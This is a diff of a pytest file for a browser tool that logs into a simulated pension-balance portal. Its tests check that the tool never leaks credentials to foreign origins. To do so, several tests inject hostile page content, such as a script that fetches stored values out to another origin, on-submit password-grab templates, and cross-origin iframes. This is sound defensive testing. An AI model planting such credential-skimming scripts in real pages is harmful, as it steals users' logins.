@@ -5,18 +5,20 @@ import re
 import stat
 import sys
 from collections.abc import Callable
-from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from playwright.sync_api import Browser
 
 from checker.browser.guard import Guard, is_loopback, origin, start_and_origins
 from checker.failures import ConfigInvalid
 from checker.portal import selectors
 from checker.simulator.scenarios import EMAIL, PASSWORD
 from checker.simulator.server import start
-from tests.driving import Ended, check, only_looked, settings
+from tests import whole
+from tests.driving import check, only_looked, settings
 from tests.rawsite import Page, Site, site
+from tests.whole import Ended
 
 PORTAL = selectors.load().selectors.portal
 LISTED = PORTAL.origins[0]
@@ -132,35 +134,25 @@ def test_guard_shows_no_password() -> None:
 # -- whole checks -----------------------------------------------------------------------------------------------------
 
 
-@dataclass(frozen=True)
-class Runner:
-    env: Callable[[str], dict[str, str]]
-    here: Path
-
-    def __call__(self, url: str, *options: str) -> Ended:
-        """A check of the portal at `url`, patient enough for a page that goes nowhere."""
-        return check(self.env(url), self.here, *(options or ("--timeout", "40")))
+Runner = Callable[..., Ended]
+"""Checks the portal at an address, patient enough for a page that goes nowhere, or for so many seconds."""
 
 
 @pytest.fixture
-def runner(clean_env: dict[str, str], browser_path: str, tmp_path: Path) -> Runner:
-    here = tmp_path / "here"
-    here.mkdir()
-    return Runner(lambda url: settings(clean_env, tmp_path / "home", browser_path, url), here)
-
-
-def code(ended: Ended) -> str:
-    return str(ended.told["error"]["code"]) if ended.told["status"] == "error" else "ok"
+def runner(browser: Browser) -> Runner:
+    return lambda url, seconds=40: whole.check(browser, url, seconds=seconds)
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="a browser in place of the browser is a shell script")
 @pytest.mark.parametrize("given", FOREIGN[:3])
-def test_foreign_portal_is_refused_before_anything_starts(given: str, runner: Runner, tmp_path: Path) -> None:
+def test_foreign_portal_is_refused_before_anything_starts(
+    given: str, clean_env: dict[str, str], tmp_path: Path
+) -> None:
     witness = tmp_path / "browser"
     witness.write_text(f"#!/bin/sh\ntouch {tmp_path}/started\n")
     witness.chmod(witness.stat().st_mode | stat.S_IXUSR)
-    ended = check(runner.env(given) | {"SALDO_JHT_BROWSER": str(witness)}, runner.here)
-    assert code(ended) == "config-invalid"
+    ended = check(settings(clean_env, tmp_path / "home", str(witness), given), tmp_path)
+    assert ended.told["error"]["code"] == "config-invalid"
     assert ended.status == 15
     assert "SALDO_JHT_PORTAL_URL" in ended.told["error"]["message"]
     assert not (tmp_path / "started").exists()
@@ -191,7 +183,7 @@ def portal(action: str = "/masuk", login: str = "", home: str = "") -> dict[str,
 def test_loopback_is_allowed(host: str, runner: Runner) -> None:
     with site(portal(), host=host) as at:
         ended = runner(at.url)
-    assert code(ended) == "ok", ended
+    assert ended.code == "ok", ended
     assert ended.told["total"] == "12345678.00"
     (sent,) = at.told(PASSWORD)
     assert (sent.method, sent.path) == ("POST", "/masuk")
@@ -202,7 +194,7 @@ def test_loopback_is_allowed(host: str, runner: Runner) -> None:
 def test_foreign_form_is_seen_before_typing(skin: str, runner: Runner) -> None:
     with start(skin, "foreign-form") as simulated:
         ended = runner(simulated.url)
-    assert code(ended) == "portal-moved"
+    assert ended.code == "portal-moved"
     only_looked(simulated, may_send=False)
     assert not [one for one in simulated.requests if one.email_ok]
 
@@ -219,7 +211,7 @@ def test_nothing_is_typed_where_a_button_leads_away(runner: Runner) -> None:
         at.pages = portal(login=TYPED)
         at.pages["/"] = Page(at.pages["/"].body.replace("<button ", f'<button formaction="{other.url}/x" '))
         ended = runner(at.url)
-    assert code(ended) == "portal-moved"
+    assert ended.code == "portal-moved"
     assert not at.paths("/typed")
     assert not other.asked
 
@@ -232,7 +224,7 @@ def test_redirected_login_carries_no_password(status: int, host: str, runner: Ru
     with site(host=host) as other, site(portal()) as at:
         at.pages["POST /masuk"] = Page(other.url + "/masuk", status)
         ended = runner(at.url)
-    assert code(ended) == "portal-moved"
+    assert ended.code == "portal-moved"
     assert len(at.told(PASSWORD)) == 1
     assert not other.told(PASSWORD)
     assert not other.told(EMAIL)
@@ -304,10 +296,10 @@ def test_script_that_sends_the_password_away(leak: str, host: str, runner: Runne
     with site(host=host) as other, site() as at:
         extra = ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=LEAKS[leak])
         at.pages = portal(login=extra) | {"/w.js": SCRIPT}
-        ended = runner(at.url, "--timeout", "20")
+        ended = runner(at.url, 20)
     assert not other.told(PASSWORD)
     if leak not in UNSEEN:
-        assert code(ended) == "portal-moved", ended
+        assert ended.code == "portal-moved", ended
         assert other.url in ended.told["error"]["message"]
 
 
@@ -354,9 +346,9 @@ def test_a_way_that_cannot_be_looked_through_is_closed(leak: str, runner: Runner
         code_ = f"{waits} try {{ {CLOSED[leak]} }} catch {{}}"
         at.pages = portal(login=ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=code_))
         at.pages |= {"/s.js": SOCKETS}
-        ended = runner(at.url, "--timeout", "20")
+        ended = runner(at.url, 20)
     assert not other.told(PASSWORD)
-    assert code(ended) == "ok", ended
+    assert ended.code == "ok", ended
 
 
 KEPT = {
@@ -376,9 +368,9 @@ def test_what_a_page_has_kept_is_not_sent_after_the_login(kept: str, where: str,
         at.pages = portal(login=ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=keep))
         leak = f"<script>fetch('{other.url}/x?q=' + encodeURIComponent({found}), {{mode: 'no-cors'}});</script>"
         at.pages[where] = Page(at.pages[where].body + leak)
-        ended = runner(at.url, "--timeout", "20")
+        ended = runner(at.url, 20)
     assert not other.told(PASSWORD)
-    assert code(ended) == "portal-moved", ended
+    assert ended.code == "portal-moved", ended
 
 
 @pytest.mark.browser
@@ -390,7 +382,7 @@ def test_script_that_sends_what_is_typed(runner: Runner) -> None:
         )
         at.pages = portal(login=f"<script>{script}</script>")
         ended = runner(at.url)
-    assert code(ended) == "portal-moved"
+    assert ended.code == "portal-moved"
     assert not other.told(PASSWORD)
 
 
@@ -402,8 +394,8 @@ def test_form_in_a_frame_of_another_origin(host: str, runner: Runner) -> None:
         at.pages = {
             "/": Page(f'<title>x</title><h1>SIMULASI</h1><iframe src="{other.url}/" width=600 height=400></iframe>')
         }
-        ended = runner(at.url, "--timeout", "15")
-    assert code(ended) in ("portal-moved", "page-not-recognised")
+        ended = runner(at.url, 15)
+    assert ended.code in ("portal-moved", "page-not-recognised")
     assert not other.paths("/typed")
     assert not other.told(PASSWORD)
     assert not other.told(EMAIL)
@@ -418,8 +410,8 @@ def test_form_in_a_frame_within_a_foreign_frame(runner: Runner) -> None:
             "/": Page(f'<title>x</title><h1>SIMULASI</h1><iframe src="{other.url}/" width=600 height=400></iframe>'),
         }
         other.pages = {"/": Page(f'<iframe src="{at.url}/form" width=500 height=300></iframe>')}
-        ended = runner(at.url, "--timeout", "15")
-    assert code(ended) in ("portal-moved", "page-not-recognised")
+        ended = runner(at.url, 15)
+    assert ended.code in ("portal-moved", "page-not-recognised")
     assert not at.paths("/typed")
     assert not at.told(PASSWORD)
 
@@ -448,7 +440,7 @@ def test_each_goes_into_its_own_kind_of_field(case: str, by: str, runner: Runner
     form = f'<form action="/masuk" method="post">{fields}<button>Login</button></form>{TYPED}'
     with site() as at:
         at.pages = portal() | {"/": Page(f"<!doctype html><title>Masuk</title><h1>SIMULASI</h1>{form}")}
-        ended = runner(at.url, "--timeout", "15")
+        ended = runner(at.url, 15)
     assert ended.told["status"]
     for one in at.asked:
         if one.path.startswith("/typed/"):
@@ -510,13 +502,13 @@ def pressed(at: Site) -> set[str]:
 def test_only_harmless_ways_out_are_pressed(case: str, runner: Runner) -> None:
     html, harmless = LAYERS[case]
     with site(portal(home=PRESSES + html)) as at:
-        ended = runner(at.url, "--timeout", "15")
+        ended = runner(at.url, 15)
     assert pressed(at) <= harmless | {"Lihat Saldo JHT"}
     assert not [name for name in pressed(at) if DENIED.search(name)]
-    if code(ended) == "ok":
+    if ended.code == "ok":
         assert ended.told["total"] == "12345678.00"
     if case == "notice":
-        assert code(ended) == "ok"
+        assert ended.code == "ok"
 
 
 # Things on the home page that are called like the way to the balance, or nearly.
@@ -537,13 +529,13 @@ def test_nothing_denied_is_pressed_for_the_balance(case: str, alone: bool, runne
     with site(portal(home=TILES[case] + PRESSES)) as at:
         if alone:
             at.pages["/beranda"] = Page(at.pages["/beranda"].body.replace('<a href="/saldo">Lihat Saldo JHT</a>', ""))
-        ended = runner(at.url, "--timeout", "15")
+        ended = runner(at.url, 15)
     assert pressed(at) <= {"Lihat Saldo JHT"}
     if "by its" in case:
         # What it does is told by its accessible name, whatever it shows; the link beside it is not meant by that.
         assert not [one for one in at.asked if one.path.startswith("/pressed") and alone]
     if alone:
-        assert code(ended) != "ok"
+        assert ended.code != "ok"
 
 
 @pytest.mark.browser
@@ -556,9 +548,9 @@ def test_a_curtain_that_does_something_itself_is_not_pressed(under_the_hand: boo
         '{{ navigator.sendBeacon("/curtain"); c.remove(); n.remove() }}</script>'
     )
     with site(portal(home=curtain.format(";cursor:pointer" if under_the_hand else ""))) as at:
-        ended = runner(at.url, "--timeout", "15")
+        ended = runner(at.url, 15)
     assert bool(at.paths("/curtain")) is not under_the_hand
-    assert (code(ended) == "ok") is not under_the_hand
+    assert (ended.code == "ok") is not under_the_hand
 
 
 @pytest.mark.browser
@@ -569,7 +561,7 @@ def test_native_questions_are_declined(question: str, runner: Runner) -> None:
         ended = runner(at.url)
     assert at.paths("/answer") == ["/answer/false"]
     assert at.paths("/text") == ["/text/null"]
-    assert code(ended) == "ok", ended
+    assert ended.code == "ok", ended
 
 
 def test_nothing_of_this_reaches_the_network() -> None:
